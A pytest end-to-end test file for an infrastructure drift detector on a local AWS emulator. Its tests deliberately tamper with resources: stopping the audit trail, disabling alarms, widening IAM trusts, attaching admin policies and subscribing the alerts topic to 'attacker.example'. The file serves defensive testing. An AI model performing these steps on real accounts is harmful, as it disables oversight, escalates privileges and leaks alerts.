"""Post-deploy truth, end to end on the local target: Staging deployed once
through ``bin/ops deploy`` (the real CDK CLI, the kept assembly recorded as
the approved one), then each tampering made behind the tools' back with boto3
(a stopped trail, disabled alarm actions, widened trusts, a deleted alarm;
swapped code, a route to NONE, a proxy route, a ``*`` permission, an admin
policy attached or inline, an extra subscription, the nonce as String, a
change set outside bin/ops); ``verify`` and ``detect-drift`` must exit
non-zero and name the resource with expected and actual, and go green again
once it is undone. Also: smoke
and test-alarm against the running Oracle, and a nonce rotation seen by the
running function (old and new accepted during the grace period, old refused
after, judged at injected instants).

One target for the module; each tampering is undone in the test. The
irreversible ones (a deleted backup plan, a rolled-back stack) run last.
"""
from __future__ import annotations

import json
import time
import urllib.error
import urllib.request

import pytest
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

from envconfig.aws import load
from tests.e2e.local_target import REPO, LocalTarget

pytestmark = pytest.mark.e2e

CONFIG = load("staging")
PREFIX = CONFIG.resource_prefix
TIMES: dict[str, float] = {}
ORACLE_ROLE = f"MirrorDissonanceOracleRole-{CONFIG.name.value}"
DEPLOY_ROLE = f"{PREFIX}-github-deploy"
SUB = "token.actions.githubusercontent.com:sub"


class Target(LocalTarget):
    def ops(self, *args, timed=None):
        start = time.monotonic()
        result = self.run(str(REPO / "bin" / "ops"), *args, "--env", "staging", check=False)
        if timed:
            TIMES[timed] = time.monotonic() - start
        return result


@pytest.fixture(scope="module")
def target(tmp_path_factory):
    t = Target(tmp_path_factory.mktemp("truth"), CONFIG.region)
    t.run(str(REPO / "bin" / "local-aws"), "start", "--port", str(t.port))
    try:
        start = time.monotonic()
        bootstrap_dir = t.tmp / "bootstrap"  # outside the project: bootstrap does not synthesize the app
        bootstrap_dir.mkdir()
        t.run("cdk", "bootstrap", f"aws://{CONFIG.account}/{CONFIG.region}", "--ci", cwd=bootstrap_dir)
        # Through bin/ops: the kept assembly is what verify and detect-drift judge against.
        t.env["OPS_APPROVALS_DIR"] = str(t.tmp / "approvals")
        t.run(str(REPO / "bin" / "ops"), "deploy", "--env", "staging", "--no-verify")
        t.run(str(REPO / "bin" / "ops"), "rotate-nonce", "--env", "staging", "--create-only")
        TIMES["bootstrap + deploy"] = time.monotonic() - start
        yield t
    finally:
        t.run(str(REPO / "bin" / "local-aws"), "stop", check=False)
        for name, seconds in TIMES.items():
            print(f"e2e timing: {name} {seconds:.1f}s")


def assert_clean(target):
    verify = target.ops("verify")
    assert verify.returncode == 0 and " 0 failed" in verify.stdout, verify.stdout + verify.stderr
    drift = target.ops("detect-drift")
    assert drift.returncode == 0 and "no drift" in drift.stdout, drift.stdout + drift.stderr


def failing_lines(result) -> list[str]:
    return [line for line in result.stdout.splitlines() if line.startswith("FAIL")]


def test_a_clean_deploy_is_green_and_the_oracle_answers(target):
    verify = target.ops("verify", timed="verify")
    assert verify.returncode == 0, verify.stdout + verify.stderr
    assert "0 failed" in verify.stdout
    drift = target.ops("detect-drift", timed="detect-drift")
    assert drift.returncode == 0 and "no drift" in drift.stdout, drift.stdout
    smoke = target.ops("smoke", timed="smoke")
    assert smoke.returncode == 0, smoke.stdout + smoke.stderr
    assert smoke.stdout.count("PASS    smoke") == 4
    alarm = target.ops("test-alarm", timed="test-alarm (3 Critical alarms)")
    assert alarm.returncode == 0 and "ALARM notification received" in alarm.stdout, alarm.stdout + alarm.stderr
    states = target.client("cloudwatch").describe_alarms(AlarmNamePrefix=PREFIX)["MetricAlarms"]
    assert all(a["StateValue"] != "ALARM" for a in states)  # every tested alarm is back to OK


def test_stop_logging_on_the_trail(target):
    trail = f"{PREFIX}-audit"
    ct = target.client("cloudtrail")
    ct.stop_logging(Name=trail)
    try:
        verify = target.ops("verify")
        assert verify.returncode == 1
        assert f"FAIL    trail      {trail} logging" in verify.stdout and "expected true, actual false" in verify.stdout
        drift = target.ops("detect-drift")
        assert drift.returncode == 1
        assert any("AuditTrail" in l and "IsLogging" in l and "true  false" in l for l in drift.stdout.splitlines()), drift.stdout
    finally:
        ct.start_logging(Name=trail)
    assert_clean(target)


def test_disable_alarm_actions_on_a_critical_alarm(target):
    alarm = f"{PREFIX}-ssm-parameter-failures-critical"
    cw = target.client("cloudwatch")
    cw.disable_alarm_actions(AlarmNames=[alarm])
    try:
        verify = target.ops("verify")
        assert verify.returncode == 1
        [line] = [l for l in failing_lines(verify) if alarm in l]
        assert "ActionsEnabled: expected true, actual False" in line
        drift = target.ops("detect-drift")
        assert drift.returncode == 1 and any("ActionsEnabled" in l for l in drift.stdout.splitlines())
        test = target.ops("test-alarm", "--alarm", alarm, "--wait", "3")
        assert test.returncode == 1, test.stdout + test.stderr
        assert "actual: nothing received" in test.stdout
    finally:
        cw.enable_alarm_actions(AlarmNames=[alarm])
    assert_clean(target)


def _trust(iam, role):
    return iam.get_role(RoleName=role)["Role"]["AssumeRolePolicyDocument"]


def test_deploy_role_trusts_a_second_github_subject(target):
    iam = target.client("iam")
    original = _trust(iam, DEPLOY_ROLE)
    widened = json.loads(json.dumps(original))
    condition = widened["Statement"][0]["Condition"]["StringEquals"]
    condition[SUB] = [*condition[SUB], f"repo:{CONFIG.github.repository}:environment:staging-plan"]
    iam.update_assume_role_policy(RoleName=DEPLOY_ROLE, PolicyDocument=json.dumps(widened))
    try:
        verify = target.ops("verify")
        assert verify.returncode == 1
        [line] = [l for l in failing_lines(verify) if f"{DEPLOY_ROLE} trust" in l]
        assert "unexpected statement(s)" in line and "environment:staging-plan" in line and "missing statement(s)" in line
        drift = target.ops("detect-drift")
        assert drift.returncode == 1
        assert any("GitHubDeployRole" in l and "AssumeRolePolicyDocument" in l and "staging-plan" in l
                   for l in drift.stdout.splitlines()), drift.stdout
    finally:
        iam.update_assume_role_policy(RoleName=DEPLOY_ROLE, PolicyDocument=json.dumps(original))
    assert_clean(target)


def test_oracle_role_trust_gains_a_string_like_subject(target):
    iam = target.client("iam")
    original = _trust(iam, ORACLE_ROLE)
    tampered = json.loads(json.dumps(original))
    tampered["Statement"][0]["Condition"]["StringLike"] = {SUB: "repo:*"}
    iam.update_assume_role_policy(RoleName=ORACLE_ROLE, PolicyDocument=json.dumps(tampered))
    try:
        verify = target.ops("verify")
        assert verify.returncode == 1
        [line] = [l for l in failing_lines(verify) if f"{ORACLE_ROLE} trust" in l]
        assert "StringLike" in line and "repo:*" in line
        drift = target.ops("detect-drift")
        assert drift.returncode == 1
        assert any("GitHubOracleRole" in l and "AssumeRolePolicyDocument" in l and "StringLike" in l
                   for l in drift.stdout.splitlines()), drift.stdout
    finally:
        iam.update_assume_role_policy(RoleName=ORACLE_ROLE, PolicyDocument=json.dumps(original))
    assert_clean(target)


def test_deleted_alarm_is_named(target):
    name = f"{PREFIX}-circuit-breaker-triggered-critical"
    cw = target.client("cloudwatch")
    saved = cw.describe_alarms(AlarmNames=[name])["MetricAlarms"][0]
    cw.delete_alarms(AlarmNames=[name])
    try:
        verify = target.ops("verify")
        assert verify.returncode == 1
        [line] = failing_lines(verify)
        assert f"expected alarm {name} (Staging-Observability/" in line and "actual does not exist" in line
        drift = target.ops("detect-drift")
        assert drift.returncode == 1 and "list index out of range" not in drift.stdout + drift.stderr
        lines = [l for l in drift.stdout.splitlines() if "AlarmsCircuitBreaker" in l]
        assert any("(resource)" in l and f"alarm {name} does not exist" in l for l in lines), lines
        assert any(f"alarms.present {name}" in l and "does not exist" in l for l in lines), lines
    finally:
        keys = ("AlarmName", "AlarmDescription", "ActionsEnabled", "OKActions", "AlarmActions", "MetricName", "Namespace",
                "Statistic", "Dimensions", "Period", "EvaluationPeriods", "Threshold", "ComparisonOperator", "TreatMissingData")
        cw.put_metric_alarm(**{k: saved[k] for k in keys if k in saved})
    assert_clean(target)


def _oracle(target, path, body, now=None):
    api = target.client("ssm").get_parameter(Name=f"{CONFIG.parameter_prefix}infra/oracle-api-id")["Parameter"]["Value"]
    url = f"{target.endpoint}/_aws/execute-api/{api}{path}"
    data = json.dumps(body)
    request = AWSRequest(method="POST", url=url, data=data, headers={"content-type": "application/json"})
    SigV4Auth(Credentials("test", "test"), "execute-api", CONFIG.region).add_auth(request)
    headers = dict(request.headers)
    if now is not None:
        headers["X-LocalAws-Now"] = str(now)
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=data.encode(), method="POST", headers=headers)) as r:
            return r.status
    except urllib.error.HTTPError as exc:
        return exc.code


def test_nonce_rotation_is_seen_by_the_running_function(target):
    ssm = target.client("ssm")
    name = CONFIG.nonce_parameter
    old = ssm.get_parameter(Name=name, WithDecryption=True)["Parameter"]
    event = {"repository": "e2e/rotation", "rule": "r", "finding": "f"}
    assert _oracle(target, "/events", {**event, "nonce": old["Value"]}) == 201
    rotated = target.run(str(REPO / "bin" / "ops"), "rotate-nonce", "--env", "staging", "--grace", "300")
    assert "stays accepted until" in rotated.stdout
    start = time.time()
    new = ssm.get_parameter(Name=name, WithDecryption=True)["Parameter"]
    assert new["Version"] == old["Version"] + 1
    # During the grace period both are accepted by the deployed function...
    assert _oracle(target, "/events", {**event, "nonce": new["Value"]}, now=start + 60) == 201
    assert _oracle(target, "/events", {**event, "nonce": old["Value"]}, now=start + 60) == 201
    # ...after it only the new one.
    assert _oracle(target, "/events", {**event, "nonce": old["Value"]}, now=start + 301) == 403
    assert _oracle(target, "/events", {**event, "nonce": new["Value"]}, now=start + 301) == 201


# ---- what a caller can reach, changed behind bin/ops' back ------------------
# Each is named by both verify and detect-drift (exit 1, the resource and the
# expected/actual values in the output), then undone.

FUNCTION = f"{PREFIX}-oracle"
ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"


def both_name(target, *needles):
    for command in ("verify", "detect-drift"):
        result = target.ops(command)
        assert result.returncode == 1, (command, result.stdout[-3000:], result.stderr)
        lines = [l for l in result.stdout.splitlines() if all(n in l for n in needles)]
        assert lines and all("expected" in l or "EXPECTED" in l or "  " in l for l in lines), (command, needles, result.stdout[-3000:])


def _api(target):
    return target.client("ssm").get_parameter(Name=f"{CONFIG.parameter_prefix}infra/oracle-api-id")["Parameter"]["Value"]


def _code(target):
    body = target.client("cloudformation").get_template(StackName="Staging-Runtime")["TemplateBody"]
    body = body if isinstance(body, dict) else json.loads(body)
    code = next(r["Properties"]["Code"] for r in body["Resources"].values() if r["Type"] == "AWS::Lambda::Function")
    bucket = code["S3Bucket"] if isinstance(code["S3Bucket"], str) else f"cdk-hnb659fds-assets-{CONFIG.account}-{CONFIG.region}"
    return bucket, code["S3Key"]


def test_update_function_code_is_named(target):
    import io
    import zipfile

    lam = target.client("lambda")
    buf = io.BytesIO()
    zipfile.ZipFile(buf, "w").writestr("index.py", "def handler(e, c):\n    return {'statusCode': 200}\n")
    lam.update_function_code(FunctionName=FUNCTION, ZipFile=buf.getvalue())
    bucket, key = _code(target)
    try:
        both_name(target, FUNCTION, "CodeSha256")
    finally:
        lam.update_function_code(FunctionName=FUNCTION, S3Bucket=bucket, S3Key=key)
    assert_clean(target)


def test_route_switched_to_none_is_named(target):
    apig, api = target.client("apigatewayv2"), _api(target)
    route = next(r for r in apig.get_routes(ApiId=api)["Items"] if r["RouteKey"] == "GET /health")
    apig.update_route(ApiId=api, RouteId=route["RouteId"], AuthorizationType="NONE")
    try:
        both_name(target, "route GET /health", "NONE")
    finally:
        apig.update_route(ApiId=api, RouteId=route["RouteId"], AuthorizationType="AWS_IAM")
    assert_clean(target)


def test_new_proxy_route_is_named(target):
    apig, api = target.client("apigatewayv2"), _api(target)
    route = next(r for r in apig.get_routes(ApiId=api)["Items"] if r["RouteKey"] == "GET /health")
    new = apig.create_route(ApiId=api, RouteKey="ANY /{proxy+}", Target=route["Target"], AuthorizationType="NONE")
    try:
        both_name(target, "route ANY /{proxy+}", "not approved")
    finally:
        apig.delete_route(ApiId=api, RouteId=new["RouteId"])
    assert_clean(target)


def test_permission_for_anyone_is_named(target):
    lam = target.client("lambda")
    lam.add_permission(FunctionName=FUNCTION, StatementId="e2e-any", Action="lambda:InvokeFunction", Principal="*")
    try:
        both_name(target, f"{FUNCTION} permission for *")
    finally:
        lam.remove_permission(FunctionName=FUNCTION, StatementId="e2e-any")
    assert_clean(target)


def test_managed_policy_on_the_deploy_role_is_named(target):
    iam = target.client("iam")
    iam.attach_role_policy(RoleName=DEPLOY_ROLE, PolicyArn=ADMIN)
    try:
        both_name(target, f"{DEPLOY_ROLE} attached policies", "AdministratorAccess")
    finally:
        iam.detach_role_policy(RoleName=DEPLOY_ROLE, PolicyArn=ADMIN)
    assert_clean(target)


def test_inline_star_policy_is_named(target):
    iam = target.client("iam")
    iam.put_role_policy(RoleName=DEPLOY_ROLE, PolicyName="e2e-admin", PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}))
    try:
        both_name(target, f"{DEPLOY_ROLE} inline policy e2e-admin")
    finally:
        iam.delete_role_policy(RoleName=DEPLOY_ROLE, PolicyName="e2e-admin")
    assert_clean(target)


def test_extra_subscription_is_named(target):
    sns = target.client("sns")
    topic = next(t["TopicArn"] for t in sns.list_topics()["Topics"] if t["TopicArn"].endswith(f"{PREFIX}-alerts"))
    sub = sns.subscribe(TopicArn=topic, Protocol="https", Endpoint="https://attacker.example/hook", ReturnSubscriptionArn=True)
    try:
        both_name(target, "subscription https:https://attacker.example/hook")
    finally:
        sns.unsubscribe(SubscriptionArn=sub["SubscriptionArn"])
    assert_clean(target)


def test_nonce_rewritten_as_string_is_named(target):
    ssm, name = target.client("ssm"), CONFIG.nonce_parameter
    value = ssm.get_parameter(Name=name, WithDecryption=True)["Parameter"]["Value"]
    ssm.delete_parameter(Name=name)
    ssm.put_parameter(Name=name, Value=value, Type="String")
    try:
        both_name(target, name, "String")
    finally:
        ssm.delete_parameter(Name=name)
        target.run(str(REPO / "bin" / "ops"), "rotate-nonce", "--env", "staging", "--create-only")
    assert_clean(target)


def _change(cf, template, name):
    # ChangeSetType spelled out: the local target ignores a change set without it (docs/local-aws.md).
    cf.create_change_set(StackName="Staging-Oidc", ChangeSetName=name, ChangeSetType="UPDATE", TemplateBody=json.dumps(template),
                         Capabilities=["CAPABILITY_IAM", "CAPABILITY_NAMED_IAM"])
    cf.execute_change_set(StackName="Staging-Oidc", ChangeSetName=name)


def test_change_set_outside_bin_ops_is_named(target):
    cf = target.client("cloudformation")
    body = cf.get_template(StackName="Staging-Oidc")["TemplateBody"]
    original = body if isinstance(body, dict) else json.loads(body)
    changed = json.loads(json.dumps(original))
    role = next(r for r in changed["Resources"].values()
                if r["Type"] == "AWS::IAM::Role" and r["Properties"].get("RoleName") == DEPLOY_ROLE)
    role["Properties"].setdefault("ManagedPolicyArns", []).append(ADMIN)
    _change(cf, changed, "e2e-admin")
    try:
        both_name(target, "Staging-Oidc template", "changed outside bin/ops")
        both_name(target, f"{DEPLOY_ROLE} attached policies", "AdministratorAccess")
    finally:
        _change(cf, original, "e2e-undo")
    assert_clean(target)


# The irreversible ones last.

def test_deleted_backup_plan(target):
    plan = target.client("cloudformation").describe_stack_resource(
        StackName="Staging-Data", LogicalResourceId=_logical(target, "Staging-Data", "AWS::Backup::BackupPlan"))
    plan_id = plan["StackResourceDetail"]["PhysicalResourceId"]
    target.client("backup").delete_backup_plan(BackupPlanId=plan_id)
    verify = target.ops("verify")
    assert verify.returncode == 1
    lines = failing_lines(verify)
    assert any(f"plan {PREFIX}-tables" in l and f"expected plan {plan_id}" in l and "actual: deleted at" in l for l in lines), lines
    drift = target.ops("detect-drift")
    assert drift.returncode == 1
    assert any("BackupPlan" in l and "(resource)" in l and "deleted" in l for l in drift.stdout.splitlines()), drift.stdout


def _logical(target, stack, type_):
    resources = target.client("cloudformation").list_stack_resources(StackName=stack)["StackResourceSummaries"]
    return next(r["LogicalResourceId"] for r in resources if r["ResourceType"] == type_)


def test_a_rolled_back_stack_is_its_own_outcome(target):
    cf = target.client("cloudformation")
    cf.delete_stack(StackName="Staging-Runtime")
    # A create that fails (a key without its policy) leaves the stack ROLLBACK_COMPLETE, as in AWS.
    cf.create_stack(StackName="Staging-Runtime", TemplateBody=json.dumps(
        {"Resources": {"Key": {"Type": "AWS::KMS::Key", "Properties": {}}}}))
    assert cf.describe_stacks(StackName="Staging-Runtime")["Stacks"][0]["StackStatus"] == "ROLLBACK_COMPLETE"
    for command in ("detect-drift", "verify", "smoke"):
        result = target.ops(command)
        assert result.returncode == 3, (command, result.stdout, result.stderr)
        assert result.stderr.startswith(f"ops {command}: Staging-Runtime is ROLLBACK_COMPLETE: nothing to compare")
        assert "Traceback" not in result.stderr
